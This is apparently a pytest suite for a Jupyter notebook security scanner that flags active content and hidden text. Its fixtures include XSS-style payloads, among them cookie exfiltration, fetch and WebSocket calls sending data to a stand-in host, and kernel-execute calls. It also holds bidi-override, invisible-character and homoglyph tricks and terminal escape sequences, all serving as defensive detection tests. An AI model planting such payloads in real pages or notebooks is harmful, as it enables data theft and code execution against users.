"""Active content and hidden text: found where they act, silent where a library or a language needs them."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from notebooks import code, display, markdown, notebook, stream

from jupyter_secai import catalogue, review
from jupyter_secai.detect.active import find_active, find_in_script
from jupyter_secai.notebook.layers import Form


def _kinds(text: str, form: Form = "html") -> set[str]:
    return {span.type for span in find_active(text, form)}


HTML = [
    ("SCRIPT", "<script>run()</script>"),
    ("SCRIPT", "<SCRIPT\n>run()</SCRIPT>"),
    ("SCRIPT", "<svg xmlns='http://www.w3.org/2000/svg'><script>run()</script></svg>"),
    ("SCRIPT", '<iframe srcdoc="&lt;script&gt;run()&lt;/script&gt;"></iframe>'),
    ("SCRIPT", "<script>" + "x=1;" * 20_000 + "</script>"),
    ("REMOTE_SCRIPT", "<script src=//c.invalid/a.js></script>"),
    ("REMOTE_SCRIPT", "<script type=module src='https://c.invalid/a.js'></script>"),
    ("REMOTE_SCRIPT", "<script src='https://polyfill.io/v3/polyfill.min.js'></script>"),
    ("REMOTE_SCRIPT", "<script>var s=document.createElement('script');s.src='https://c.invalid/x'</script>"),
    ("REMOTE_SCRIPT", "<script>import('https://c.invalid/x.mjs')</script>"),
    ("REMOTE_SCRIPT", "<svg><script href='https://c.invalid/a.js'/></svg>"),
    ("REMOTE_SCRIPT", "<script>Plotly.newPlot(a); $.getScript('https://c.invalid/a')</script>"),
    ("OPEN_CDN_SCRIPT", "<script src='https://cdn.jsdelivr.net/npm/left-pad-ng@1'></script>"),
    ("OPEN_CDN_SCRIPT", "<script src='https://cdn.jsdelivr.net/gh/somebody/thing/a.js'></script>"),
    ("SERVER_SCRIPT", "<script>new Image().src='/x?'+document.cookie</script>"),
    ("SERVER_SCRIPT", "<script>fetch('/api/contents/a.ipynb')</script>"),
    ("SERVER_SCRIPT", "<script>IPython.notebook.kernel.execute('import os')</script>"),
    ("SERVER_SCRIPT", "<script>eval(atob('YWxlcnQoMSk='))</script>"),
    ("SERVER_SCRIPT", "<script>vegaEmbed('#vis', s); x = document.cookie</script>"),
    ("SENDING_SCRIPT", "<script>fetch('https://c.invalid/' + data)</script>"),
    ("SENDING_SCRIPT", "<script>x.open('POST', 'https://c.invalid/'); x.send(d)</script>"),
    ("SENDING_SCRIPT", "<script>new WebSocket('wss://c.invalid/')</script>"),
    ("SENDING_SCRIPT", "<script>window.location.href = 'https://c.invalid/'</script>"),
    ("HANDLER", "<img src=x onerror=run()>"),
    ("HANDLER", "<body/onload=run()>"),
    ("HANDLER", '<svg onload="run()">'),
    ("HANDLER", "<details open ontoggle='run()'>"),
    ("HANDLER", '<img alt="a > b" src=x onerror=run()>'),
    ("SERVER_SCRIPT", '<img src=x onerror="fetch(&#39;/api/kernels&#39;)">'),
    ("SCRIPT_LINK", "<a href='javascript:run()'>x</a>"),
    ("SCRIPT_LINK", "<a href='java&#115;cript:run()'>x</a>"),
    ("SCRIPT_LINK", "<a href=' java\tscript:run()'>x</a>"),
    ("SCRIPT_LINK", "<a href='vbscript:run()'>x</a>"),
    ("SCRIPT_LINK", "<form action='javascript:run()'></form>"),
    ("SCRIPT_LINK", "<svg><a xlink:href='javascript:run()'></a></svg>"),
    ("SCRIPT_LINK", "<svg><animate attributeName=href values='javascript:run()'/></svg>"),
    ("SCRIPT_LINK", "<meta http-equiv=refresh content='0;url=javascript:run()'>"),
    ("DATA_DOCUMENT", "<a href='data:text/html,<script>run()</script>'>x</a>"),
    ("DATA_DOCUMENT", "<iframe src='data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg=='></iframe>"),
    ("REMOTE_FRAME", "<iframe src='https://c.invalid/'></iframe>"),
    ("REMOTE_FRAME", "<object data='https://c.invalid/a.html'></object>"),
    ("REMOTE_FRAME", "<embed src='https://c.invalid/a.swf'>"),
    ("HIDDEN_FRAME", "<iframe src='https://c.invalid/' width=0 height=0></iframe>"),
    ("HIDDEN_FRAME", "<iframe src='https://c.invalid/' style='display: none'></iframe>"),
    ("REDIRECT", "<meta http-equiv='refresh' content='3; url=https://c.invalid/'>"),
    ("REDIRECT", "<base href='https://c.invalid/'>"),
    ("REMOTE_FORM", "<form action='https://c.invalid/'><input name=q></form>"),
    ("PASSWORD_FORM", "<form action='https://c.invalid/'><input type='password'></form>"),
    ("BEACON", "<img src='https://c.invalid/p.gif' width='1' height='1'>"),
    ("IMAGE_QUERY", "<img src='https://c.invalid/p.gif?d=" + "Qm" * 30 + "'>"),
    ("REMOTE_STYLE", "<link rel='stylesheet' href='https://c.invalid/a.css'>"),
    ("REMOTE_STYLE", "<style>@import url('https://c.invalid/a.css');</style>"),
]


@pytest.mark.parametrize(("kind", "text"), HTML)
def test_what_acts_in_html(kind: str, text: str) -> None:
    assert kind in _kinds(text)


KNOWN = [
    "<script>Plotly.newPlot('id', data)</script>",
    "<script src='https://cdn.plot.ly/plotly-2.35.2.min.js' charset='utf-8'></script>",
    "<script src='https://cdn.jsdelivr.net/npm/vega@5'></script>",
    "<script src='https://unpkg.com/leaflet@1.9.3/dist/leaflet.js'></script>",
    "<script src='https://cdn.jsdelivr.net/npm/thing' integrity='sha384-x'></script>",
    "<script type='application/json'>{\"a\": 1}</script>",
    "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>",
    "<script>/* nothing */</script>",
    "<script>code_show=true; function code_toggle() {$('div.input').hide()}</script>"
    "<form action='javascript:code_toggle()'><input type='submit'></form>",
    "<button onclick='anim0f3a.next_frame()'></button>",
    "<script>function pick(x) { vis.DataSet(x) }</script><select onchange='pick(1)'></select>",
    "<a href='javascript:void(0)'>x</a>",
    "<a href='#' onclick='return false'>x</a>",
    "<img src='chart.png' onerror='this.style.display=\"none\"'>",
    "<iframe src='https://www.youtube.com/embed/abc'></iframe>",
    "<iframe src='http://localhost:6006/'></iframe>",
    "<iframe src='report.html'></iframe>",
    "<iframe srcdoc='&lt;script&gt;run()&lt;/script&gt;' sandbox=''></iframe>",
    "<iframe srcdoc='&lt;script&gt;L.map(x)&lt;/script&gt;'></iframe>",
    "<a href='data:text/html,<b>bold</b>'>x</a>",
    "<a download='report.html' href='data:text/html,<script>run()</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=run()>'>".replace(" onload=run()", ""),
    "<form action='/search'><input type='password'></form>",
    "<img src='https://img.shields.io/badge/a-b.svg?style=flat'>",
    "<link rel='stylesheet' href='https://fonts.googleapis.com/css?family=Roboto'>",
    "<table><tr><td>region=3</td><td>condition = 4</td></tr></table>",
    "&lt;script&gt;run()&lt;/script&gt;",
    "x < y and on_time=3",
]


@pytest.mark.parametrize("text", KNOWN)
def test_what_known_libraries_and_plain_pages_do(text: str) -> None:
    assert _kinds(text) == set()


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("[x](javascript:run())", {"SCRIPT_LINK"}),
        ("[x](<java&#115;cript:run()>)", {"SCRIPT_LINK"}),
        ("[x]: javascript:run()", {"SCRIPT_LINK"}),
        ("<javascript:run()>", {"SCRIPT_LINK"}),
        (r"$\href{javascript:run()}{x}$", {"SCRIPT_LINK"}),
        ("[x](data:text/html,<script>run()</script>)", {"DATA_DOCUMENT", "SCRIPT"}),
        ("![x](https://c.invalid/p?d=" + "Qm" * 30 + ")", {"IMAGE_QUERY"}),
        ("<script>run()</script>", {"SCRIPT"}),
        ("1. item\n\n    <script>run()</script>", {"SCRIPT"}),
        ("`<script>run()</script>`", set()),
        ("```html\n<script>run()</script>\n```", set()),
        ("~~~\n<script>run()</script>", set()),
        ("text\n\n    <script>run()</script>\n", set()),
        ("[x](https://jupyter.org) ![y](https://c.invalid/chart.png)", set()),
        ("if a <b and onset=3", set()),
    ],
)
def test_markdown(text: str, kinds: set[str]) -> None:
    assert _kinds(text, "markdown") == kinds


HIDDEN: list[tuple[Form, str, set[str]]] = [
    ("code", "x = 1  # \u202e }\u2066if admin\u2069 \u2066begin", {"REORDERED"}),
    ("code", "a = '\u2067\u05e9\u05dc\u05d5\u05dd\u2069'", set()),
    ("code", "path = '\u202aC:\\Users\\x'", set()),
    ("code", "a = '\u2067\u05e9\u05dc\u05d5\u05dd'", {"REORDERED"}),
    ("markdown", "file \u202egpj.exe", {"REORDERED"}),
    ("markdown", "\u200f\u05e9\u05dc\u05d5\u05dd\u200f \u2067\u05d0\u2069", set()),
    ("code", "role = 'ad\u200bmin'", {"INVISIBLE"}),
    ("code", "role = 'ad\u00admin'", {"INVISIBLE"}),
    ("code", "x.replace('\u200b', '')", set()),
    ("code", "# \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", set()),
    ("markdown", "\U0001f469\u200d\U0001f469\u200d\U0001f467", set()),
    ("markdown", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", set()),
    ("markdown", "hello\U000e0068\U000e0069", {"HIDDEN_TEXT"}),
    ("plain", "hello" + "\u200b\u200c" * 8, {"HIDDEN_TEXT"}),
    ("plain", "ok" + "\ufe01\ufe03\ufe02\ufe05", {"HIDDEN_TEXT"}),
    ("code", "p\u0430ssword = 1", {"LOOKALIKE"}),
    ("code", "s\u03bfrt = 1", {"LOOKALIKE"}),
    ("code", "\u0435v\u0430l(x)", {"LOOKALIKE"}),
    ("code", "\U0001d41e\U0001d42f\U0001d41a\U0001d425(x)", {"LOOKALIKE"}),
    ("code", "\u0441\u0443\u043c\u043c\u0430 = 1\n\u0394x = \u03b1 + \u03b2_1 + \u03c3\u03c4", set()),
    ("code", "label = 'p\u0430ssword'  # p\u0430ssword", set()),
    ("code", "x = 1" + " " * 200 + "; setup()", {"OFF_SCREEN"}),
    ("code", "x = 1" + "\n" * 200 + "setup()", {"OFF_SCREEN"}),
    ("code", "x = 1" + " " * 60 + "# aligned", set()),
    ("code", "art = '''" + " " * 200 + "*'''", set()),
    ("plain", "\x1b]52;c;Y3VybA==\x07", {"TERMINAL"}),
    ("plain", "\x1b[8mhidden\x1b[0m", {"TERMINAL"}),
    ("plain", "\x1b[31mred\x1b[0m \x1b]8;;https://jupyter.org\x07link\x1b]8;;\x07 50%\x1b[K\r", set()),
    ("code", "x = 1\x08\x08", {"TERMINAL"}),
]  # fmt: skip


@pytest.mark.parametrize(("form", "text", "kinds"), HIDDEN, ids=lambda v: ascii(v)[:40])
def test_hidden_text(form: Form, text: str, kinds: set[str]) -> None:
    assert _kinds(text, form) == kinds


def test_code_is_left_to_the_code_rules() -> None:
    assert _kinds("HTML('<script>run()</script>')", "code") == set()


# --- the findings


def _found(*cells: dict[str, object], **metadata: object) -> list[tuple[str, str, str]]:
    made = review(notebook(*cells, **metadata))
    return [(f.rule, f.severity, f.location.carrier) for f in made.findings if f.category == "active-content"]


def test_one_finding_for_each_rule_and_output() -> None:
    page = "<script>a()</script><img onerror=b()><script>c()</script><a href='javascript:d()'>x</a>"
    [script, link] = sorted(_found(code("show()", display(text_html=page))))
    assert script == ("inline-script", "medium", "output:0:text/html")
    assert link == ("script-link", "medium", "output:0:text/html")


def test_javascript_outputs_are_scripts() -> None:
    shown = code("show()", display(application_javascript="fetch('/api/kernels')"))
    assert _found(shown) == [("hostile-script", "high", "output:0:application/javascript")]
    library = code("show()", display(application_javascript="root.Bokeh.embed.embed_items(x)"))
    assert _found(library) == []


def test_markup_in_data_is_data_and_in_widgets_is_not() -> None:
    page = "<img src=x onerror=run()>"
    as_data = {"output_type": "display_data", "metadata": {}, "data": {"application/json": {"page": page}}}
    assert _found(code("show()", as_data)) == []
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": {"value": page}}}}}
    assert [rule for rule, *_ in _found(code("show()"), widgets=state)] == ["inline-script"]


def test_reordered_code_is_graver_than_reordered_prose() -> None:
    text = "safe \u202e }"
    assert _found(code(f"x = 1  # {text}")) == [("reordered-text", "high", "source")]
    assert _found(markdown(text)) == [("reordered-text", "medium", "source")]


def test_names_that_mislead_are_found_and_not_repeated() -> None:
    name = "photo\u202egpj.exe"
    cell = {**markdown("see"), "attachments": {name: {"image/png": ""}}}
    result = review(notebook(cell, kernelspec={"display_name": "Py\u202ethon"}), path="re\u202eport.ipynb")
    found = {f.location.carrier for f in result.findings if f.rule == "reordered-text"}
    assert found == {"attachment:#1:name", "notebook-metadata:kernelspec", "notebook-metadata:name"}
    assert "\u202e" not in str(
        [f.model_dump() for f in result.findings if f.location.carrier.startswith("att")]
    )


def test_a_finding_names_the_site_and_no_more_of_an_address() -> None:
    page = "<script src='https://user:k9Rm2vTx@k9Rm2vTx.c.invalid/k9Rm2vTx.js?k9Rm2vTx'></script>"
    result = review(notebook(code("show()", display(text_html=page))))
    [finding] = [f for f in result.findings if f.rule == "remote-script"]
    assert "c.invalid" in finding.message
    assert "k9Rm2vTx" not in finding.model_dump_json()


def test_terminal_sequences_in_outputs_are_low() -> None:
    assert _found(code("print(x)", stream("\x1b]52;c;Y3VybA==\x07"))) == [
        ("terminal-sequences", "low", "output:0:stream")
    ]


# --- the data


def test_every_kind_has_a_rule_of_active_content() -> None:
    for kind in catalogue.active().kind:
        assert catalogue.rules()[kind.rule].category == "active-content"


def test_every_kind_is_shown_by_an_example_above() -> None:
    shown = {kind for kind, _ in HTML} | {kind for *_, kinds in HIDDEN for kind in kinds}
    assert {kind.id for kind in catalogue.active().kind} - shown == {"NAME", "UNREAD_SCRIPT"}


def test_look_alikes_are_letters_of_the_alphabet_they_are_listed_under() -> None:
    for alphabet, pairs in catalogue.active().lookalikes.items():
        for letter, latin in pairs.split():
            assert not letter.isascii()
            assert latin.isascii(), (alphabet, latin)


_HOSTILE = [
    "<a ", '<a ="', "<a ='", '<iframe ="', "<script>", "<b onx=", " onload=", "](", "![](", "[a]: ", "`", "`` `",
    "```\n", "\u202e", "a\u200b", "\U000e0041", "\u0430a ", "\x1b[8;", " ", "\n", "\n \n", "a" + " " * 149, "url(",
    "@import ", '"//a.b/', '.src="//', 'fetch("', "=", "<form action=//a.b ", "&#", "\\href{", '"""', "\\\"",
]  # fmt: skip


@pytest.mark.parametrize("piece", _HOSTILE, ids=ascii)
def test_no_text_makes_the_search_slow(piece: str) -> None:
    text = (piece * (200_000 // len(piece) + 1))[:200_000]
    for form in ("html", "markdown", "code", "json"):
        start = time.process_time()
        find_active(text, form)
        assert time.process_time() - start < 1
    start = time.process_time()
    find_in_script(text[:49_000])
    assert time.process_time() - start < 1


@given(st.text(alphabet="<>/=\"' scriptonja:vhref\n`](!\u202e\u200b\U000e0041", max_size=80))
def test_spans_lie_inside_any_text(text: str) -> None:
    for form in ("html", "markdown", "raw", "json", "code", "plain", "metadata"):
        for span in find_active(text, form):
            assert 0 <= span.start <= span.end <= len(text)
